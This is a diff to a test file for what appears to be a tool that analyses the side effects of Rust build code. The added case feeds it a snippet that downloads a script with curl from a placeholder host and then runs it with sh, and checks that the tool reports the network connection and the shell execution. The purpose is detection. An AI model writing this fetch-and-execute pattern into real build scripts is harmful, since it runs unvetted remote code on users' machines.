@@ -32,6 +32,16 @@ describe("rust", () => {
       ['2 runs object "foo"', '2 runs object "x.o"'],
     ],
     ['std::fs::write(format!("{}/x", std::env::var("OUT_DIR").unwrap()), "y");', ['2 writes $OUT_DIR + "/x" "y"']],
+    [
+      'let t = dir().join("a.sh"); Command::new("curl").args(["-fsSL", "-o"]).arg(&t).arg("https://a.b/c").status(); Command::new("sh").arg(&t).spawn();',
+      [
+        '2 runs program "curl" with "-fsSL", "-o", ? + "/a.sh", "https://a.b/c"',
+        '2 connects "https://a.b/c"',
+        '2 writes ? + "/a.sh" fetched<"https://a.b/c">',
+        '2 runs program "sh" with ? + "/a.sh"',
+        '2 runs text shell file<? + "/a.sh">',
+      ],
+    ],
     ['use std::fs; fs::remove_file("x"); fs::copy("a", "b");', ['2 deletes "x"', '2 reads "a"', '2 writes "b" file<"a">']],
     ['cc::Build::new().file("a.c").object("b.o").compile("a");', ['2 runs source "a.c"', '2 runs object "b.o"']],
     ['unsafe { libloading::Library::new("x.so") };', ['2 runs object "x.so"']],
